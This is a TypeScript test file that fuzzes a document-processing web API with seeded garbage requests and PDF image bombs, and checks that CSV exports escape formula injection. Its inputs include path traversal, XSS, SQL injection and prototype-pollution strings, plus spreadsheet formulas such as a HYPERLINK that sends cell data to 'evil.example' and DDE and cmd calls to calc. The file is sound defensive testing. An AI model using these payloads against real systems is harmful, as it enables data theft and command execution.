// A client's mistake is never a 5xx: every route of the API gets generated garbage (query strings,
// JSON and form bodies, multipart bodies with and without a boundary, files of every broken kind,
// odd headers) from a fixed seed, a few hundred requests in all, and the server must answer each
// with a status below 500 and stay healthy afterwards. A second family writes generated formula-looking
// values (document text, annotation corrections, file names) and reads them back from the CSV exports,
// each cell escaped. The same seed gives the same requests on every
// run, so a failure names a request that can be replayed.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { random } from '../../main/ai/extraction/forest.ts';
import { allRoutes } from '../../main/http/routes/index.ts';
import { ADMIN, startTestServer, type TestServer } from '../helpers/testServer.ts';
import { created, makeTaxonomy, pdfWithLettersAtSpans, pdfWithText, span, textLineSpan, upload, type Taxonomy } from '../helpers/documentFixtures.ts';
import { parseCsv } from '../helpers/csv.ts';
import { imageBombs } from '../fixtures/pdfImageBombs.ts';

const SEED = 20261124;
const REQUESTS = 420;

let s: TestServer;
let t: Taxonomy;
let docId: number;

beforeAll(async () => {
  s = await startTestServer();
  t = await makeTaxonomy(s.admin, 'Fuzz');
  docId = (await created(upload(s.admin, { project: t.project, category: t.category, sync: 'true' }, { name: 'fuzz.pdf', data: await pdfWithText('Fuzz 42') }))).id;
});
afterAll(() => s.close());

describe('the 500s the fuzzing of the last round found, each answered as a client mistake', () => {
  it('an offset beyond what the database holds is an empty page', async () => {
    const r = await s.admin.get('/api/v3/projects/?offset=100000000000000000000');
    expect(r.status).toBe(200);
    expect(r.body.results).toEqual([]);
    expect(r.body.count).toBeGreaterThan(0);
  });

  it('ordering, filters and fields named after Object.prototype members are unknown names, not code', async () => {
    const ordering = await s.admin.get('/api/v3/documents/?ordering=__proto__');
    expect(ordering.status).toBe(400);
    expect(ordering.body.ordering[0]).toMatch(/Cannot order by "__proto__"/);
    expect((await s.admin.get('/api/v3/documents/?ordering=-constructor')).status).toBe(400);
    for (const q of ['constructor=1', 'toString=1', '__proto__=1', 'hasOwnProperty=x']) {
      expect((await s.admin.get(`/api/v3/documents/?${q}`)).status, q).toBe(200);
    }
    const fields = await s.admin.get(`/api/v3/documents/${docId}/?fields=__proto__.polluted,constructor,id`);
    expect(fields.status).toBe(200);
    expect(fields.body).toEqual({ id: docId });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('a multipart body without a boundary is a 400 that says so', async () => {
    for (const contentType of ['multipart/form-data', 'multipart/form-data; boundary=']) {
      const upload = await s.admin.request('POST', '/api/v3/documents/', { raw: { data: 'x', contentType } });
      expect(upload.status, contentType).toBe(400);
      expect(upload.body.detail).toMatch(/needs a boundary/);
      const form = await s.admin.request('POST', '/api/v3/projects/', { raw: { data: 'x', contentType } });
      expect(form.status, contentType).toBe(400);
      expect(form.body.detail).toMatch(/needs a boundary/);
    }
  });
});

describe('PDF image bombs: images declaring more pixels than they hold, whole, cut short and damaged', () => {
  it('answers each without a 5xx or a crash, and the memory stays low', async () => {
    const rnd = random(SEED);
    const whole = [...imageBombs(), ...imageBombs(65535), ...imageBombs(0)];
    // Damaged copies are not waited for (one pdf.js reads but pdf-lib does not is retried for a minute): their
    // processing runs on while the rest of this file does.
    const damaged = imageBombs().flatMap((b) => [
      { name: `cut-${b.name}`, pdf: b.pdf.subarray(0, Math.floor(b.pdf.length * (0.3 + 0.6 * rnd()))) },
      { name: `spoilt-${b.name}`, pdf: (() => { const c = Buffer.from(b.pdf); for (let i = 0; i < 8; i++) c[Math.floor(rnd() * c.length)] = Math.floor(rnd() * 256); return c; })() },
    ]);
    const before = process.memoryUsage().rss;
    const failures: string[] = [];
    for (const [i, v] of [...whole, ...damaged].entries()) {
      const sync = i < whole.length;
      const r = await upload(s.admin, { project: t.project, ...(sync ? { sync: 'true' } : {}) }, { name: v.name, data: v.pdf });
      if (r.status >= 500) failures.push(`${v.name}: ${r.status} ${r.text}`);
      // Whole ones accepted (the sizes 0 and 65535 declare nothing too large) were read whole: done, or failed with a reason.
      if (sync && r.status === 201 && ![2, 111].includes(r.body.status_data)) failures.push(`${v.name}: status ${r.body.status_data}`);
    }
    expect(failures).toEqual([]);
    expect(process.memoryUsage().rss - before).toBeLessThan(600 * 2 ** 20);
    expect((await s.admin.get('/api/v3/auth/me/')).status).toBe(200);
  }, 120_000);
});

describe('fuzz: generated requests against every route', () => {
  it(`answers ${REQUESTS} generated requests (seed ${SEED}) without a 5xx and stays healthy`, async () => {
    const rnd = random(SEED); // the project's seeded generator: the same requests on every run
    const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)];
    const ids = () => pick(['1', '0', '-1', String(docId), String(t.project), String(t.category), '99999999', '100000000000000000000', 'abc', '1.5', '%00', '__proto__', '1e3', ' 2']);

    const scalars: unknown[] = [
      null, true, false, 0, -1, 1.5, 1e308, -1e308, 2 ** 63, Number.MAX_SAFE_INTEGER + 2, '', ' ', 'x'.repeat(5000), '0', 'null',
      '2024-13-45', '../../etc/passwd', '<script>alert(1)</script>', "'; drop table documents; --", '\u0000', '\ud800', 'Ä€😀', '__proto__',
      t.project, t.category, t.labels.date, docId,
    ];
    const keys = ['project', 'category', 'name', 'label', 'label_set', 'label_set_id', 'annotation_set', 'document', 'span', 'ids', 'is_correct',
      'revised', 'data_type', 'get_data_type_display', 'pages', 'q', 'username', 'password', 'email', 'dataset_status', 'assignee', 'active',
      'offset_string', 'page_index', 'x0', 'x1', 'y0', 'y1', '__proto__', 'constructor', 'categories', 'labels', 'has_multiple_sections', 'angle'];
    const value = (depth: number): unknown => {
      const r = rnd();
      if (depth > 2 || r < 0.55) return pick(scalars);
      if (r < 0.75) return Array.from({ length: Math.floor(rnd() * 4) }, () => value(depth + 1));
      return object(depth + 1);
    };
    const object = (depth: number): Record<string, unknown> =>
      Object.fromEntries(Array.from({ length: 1 + Math.floor(rnd() * 5) }, () => [pick(keys), value(depth)]));

    const queryValues = ['', '0', '-1', '100000000000000000000', '1e400', 'abc', '__proto__', 'constructor', 'true', 'maybe', '2024-02-30', '-id', 'id,-name', 'toString', '%E0%A4%A', 'a'.repeat(3000)];
    const queryKeys = ['limit', 'offset', 'ordering', 'fields', 'created_at_after', 'created_at_before', 'project', 'status', 'is_reviewed', 'assignee', '__proto__', 'constructor', 'toString', 'name', 'fields', 'expand', 'token', 'format', 'q', 'id'];
    const query = () =>
      Array.from({ length: Math.floor(rnd() * 4) }, () => `${pick(queryKeys)}=${pick(queryValues)}`).join('&');

    const pdf = await pdfWithText('fuzzed upload');
    const files: (() => Uint8Array)[] = [
      () => new Uint8Array(0),
      () => Buffer.from('%PDF-1.7\n'),
      () => pdf.slice(0, Math.floor(rnd() * pdf.length)),
      () => { const b = Buffer.from(pdf); for (let i = 0; i < 40; i++) b[Math.floor(rnd() * b.length)] = Math.floor(rnd() * 256); return b; },
      () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(200, 7)]),
      () => Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'binary'), Buffer.alloc(64, 1)]),
      () => Buffer.from('PK\x03\x04garbage-office-file', 'binary'),
      () => Buffer.from(Array.from({ length: 512 }, () => Math.floor(rnd() * 256))),
    ];

    // Logging out would leave the rest of the run unauthenticated, testing only the 401 path.
    const routes = allRoutes.filter((r) => !(r.method === 'delete' && r.path.includes('/auth/')));
    const failures: string[] = [];
    for (let i = 0; i < REQUESTS; i++) {
      const route = pick(routes);
      const path = route.path.replace(/:(\w+)/g, () => encodeURIComponent(ids()));
      const url = `${path}${rnd() < 0.6 ? `?${query()}` : ''}`;
      const headers: Record<string, string> = {};
      const auth = rnd();
      if (auth < 0.7) headers.Authorization = `Token ${s.admin.token}`;
      else if (auth < 0.8) headers.Authorization = pick(['Token', 'Token  ', 'Basic ###', `Basic ${Buffer.from('nobody').toString('base64')}`, 'Bearer x', 'Token ' + 'z'.repeat(500)]);
      const method = rnd() < 0.85 ? route.method.toUpperCase() : pick(['GET', 'POST', 'PUT', 'PATCH', 'DELETE']);
      let body: BodyInit | undefined;
      if (method !== 'GET') {
        const kind = rnd();
        if (kind < 0.35) {
          headers['Content-Type'] = 'application/json';
          body = rnd() < 0.15 ? '{"broken": ' : JSON.stringify(rnd() < 0.8 ? object(0) : value(0));
        } else if (kind < 0.5) {
          headers['Content-Type'] = 'application/x-www-form-urlencoded';
          body = new URLSearchParams(Object.entries(object(1)).map(([k, v]) => [k, String(v)])).toString();
        } else if (kind < 0.8) {
          const form = new FormData();
          for (const [k, v] of Object.entries(object(1))) form.append(k, String(v));
          form.append(pick(['data_file', 'file', 'other']), new Blob([pick(files)() as BlobPart]), pick(['a.pdf', 'b.jpg', '', '../x.png', 'ü.docx']));
          body = form;
        } else if (kind < 0.9) {
          headers['Content-Type'] = pick(['multipart/form-data', 'multipart/form-data; boundary=', 'multipart/form-data; boundary=xyz']);
          body = '--xyz\r\nContent-Disposition: form-data; name="data_file"; filename="a.pdf"\r\n\r\n%PDF-1';
        } else {
          headers['Content-Type'] = pick(['text/plain', 'application/xml', 'application/json; charset=utf-16', 'image/png']);
          body = 'garbage';
        }
      }
      let status: number;
      try {
        const res = await fetch(`${s.url}${url}`, { method, headers, body });
        status = res.status;
        await res.arrayBuffer();
      } catch (err) {
        failures.push(`#${i} ${method} ${url}: no answer (${String(err)})`);
        continue;
      }
      if (status >= 500) failures.push(`#${i} ${method} ${url} ${headers['Content-Type'] ?? ''}: ${status}`);
    }
    expect(failures).toEqual([]);

    // Healthy afterwards: logins, reads and a real upload still work (the fuzz may have deleted the project).
    await s.admin.login(ADMIN.email, ADMIN.password);
    expect((await s.admin.get('/api/v3/auth/me/')).status).toBe(200);
    const project = (await created(s.admin.post('/api/v3/projects/', { name: 'After the fuzz' }))).id;
    const after = await created(upload(s.admin, { project, sync: 'true' }, { name: 'after.pdf', data: await pdfWithText('after the fuzz') }));
    expect(after.status_data).toBe(2);
    expect(after.text).toContain('after the fuzz');
  }, 300_000);
});

describe('fuzz: formula injection through the CSV exports', () => {
  it('escapes every generated value that starts with = + - @ TAB or CR, in all.csv and documents.csv (seed ' + SEED + ')', async () => {
    const rnd = random(SEED + 1);
    const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)];
    const starts = ['=', '+', '-', '@', '\t', '\r'];
    const bodies = ['1+1', 'HYPERLINK("http://evil.example/?"&A1,"click")', "cmd|'/C calc'!A0", 'SUM(A1:A9)', '2+3', 'IMPORTXML(CONCAT("http://x/?",A2),"//a")', ' , "quoted", ', 'x\ny', 'DDE("cmd";"/C calc";"!A0")'];
    const generated = (printable: boolean) => {
      const first = printable ? pick(starts.slice(0, 4)) : pick(starts);
      let body = pick(bodies);
      if (printable) body = body.replace(/\n/g, ' ');
      return `${first}${body}${rnd() < 0.5 ? ` ${Math.floor(rnd() * 1000)}` : ''}`;
    };

    const hostile = await makeTaxonomy(s.admin, 'Fuzz CSV');
    const expectedText = new Set<string>();
    // Document text that starts with a formula character: the annotation takes its text from the page.
    for (let i = 0; i < 3; i++) {
      const text = generated(true);
      const d = await created(upload(s.admin, { project: hostile.project, category: hostile.category, sync: 'true' }, { name: `doc-${i}.pdf`, data: await pdfWithText(text) }));
      const a = await created(s.admin.post(`/api/v3/documents/${d.id}/annotations/`, { label: hostile.labels.total, label_set: hostile.category, span: [textLineSpan()] }));
      expect(a.offset_string.startsWith(text.slice(0, 1)), a.offset_string).toBe(true);
      expectedText.add(a.offset_string);
    }
    // Annotation values a reviewer typed, and a file name, on one more document.
    const fileName = `${generated(true).replace(/[\\/\n"]/g, '_')}.pdf`;
    const letters = await created(upload(s.admin, { project: hostile.project, category: hostile.category, sync: 'true' }, { name: fileName, data: await pdfWithLettersAtSpans() }));
    for (let n = 1; n <= 16; n++) {
      const text = generated(false);
      const a = await created(s.admin.post(`/api/v3/documents/${letters.id}/annotations/`, { label: hostile.labels.total, label_set: hostile.category, span: [span(n, text)] }));
      expectedText.add(a.offset_string);
    }

    const csv = async (file: string) => {
      const r = await fetch(`${s.url}/api/v3/projects/${hostile.project}/export/${file}?token=${s.admin.token}`);
      expect(r.status).toBe(200);
      return parseCsv(await r.text());
    };
    const all = await csv('all.csv');
    const textColumn = all[0].indexOf('text');
    expect(new Set(all.slice(1).map((row) => row[textColumn]))).toEqual(new Set([...expectedText].map((t) => `'${t}`)));
    const table = await csv('documents.csv');
    const nameColumn = table[0].indexOf('data_file_name');
    expect(table.slice(1).map((row) => row[nameColumn])).toContain(`'${fileName}`);
    // No cell of either file starts with a formula character unless it is a plain number.
    for (const cell of [...all.flat(), ...table.flat()]) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+@\t\r]|^-(?![\d.]+$)/);
  }, 120_000);
});
